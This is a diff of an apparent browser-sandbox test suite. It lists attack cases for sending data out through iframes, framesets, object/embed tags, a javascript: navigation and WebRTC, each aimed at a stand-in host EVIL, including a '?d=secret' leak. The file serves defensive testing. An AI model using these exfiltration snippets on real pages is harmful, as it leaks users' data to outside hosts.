@@ -156,7 +156,7 @@ const request: readonly Attack[] = [
   { name: 'frame', control: 'request', connects: true, code: put('iframe', `{ src: EVIL + '/?d=secret' }`) },
   {
     name: 'frame of our own server',
-    control: 'value',
+
     code: put('iframe', `{ src: OWN + '/?cell' }`) + `return it.contentDocument?.body ? 'GOT a page' : 'nothing'`,
   },
   {
@@ -186,7 +186,9 @@ const request: readonly Attack[] = [
   {
     name: 'frameset',
     connects: true,
-    code: markup('<frameset><frame src="${EVIL}"></frameset>') + put('frame', '{ src: EVIL }').replaceAll('it', 'it2'),
+    code:
+      markup('<frameset><frame src="${EVIL}"></frameset>') +
+      `document.body.append(Object.assign(document.createElement('frame'), { src: EVIL })); ${wait(300)}`,
   },
   { name: 'object', control: 'request', code: put('object', `{ data: EVIL }`) },
   { name: 'embed', control: 'request', code: put('embed', `{ src: EVIL }`) },
@@ -269,7 +271,7 @@ const navigation: readonly Attack[] = [
     name: 'navigating itself to a script',
     alone: true,
     control: 'request',
-    code: `location.href = "javascript:new Image().src='" + EVIL + "'"; ${wait(400)}`,
+    code: `location.href = "javascript:void(new Image().src='" + EVIL + "')"; ${wait(400)}`,
   },
   {
     name: 'navigating itself to our data',
@@ -322,7 +324,9 @@ const packet: readonly Attack[] = [
   {
     name: 'WebRTC from a child frame',
     control: 'packet',
-    code: put('iframe', '{}', '').replaceAll('it', 'box') + `const RTC = box.contentWindow.RTCPeerConnection; ${stun}`,
+    code:
+      `const box = document.body.appendChild(document.createElement('iframe')); ${wait(200)}` +
+      `const RTC = box.contentWindow.RTCPeerConnection; ${stun}`,
   },
   { name: 'WebRTC from the page around', control: 'packet', code: `const RTC = parent.RTCPeerConnection; ${stun}` },
   {
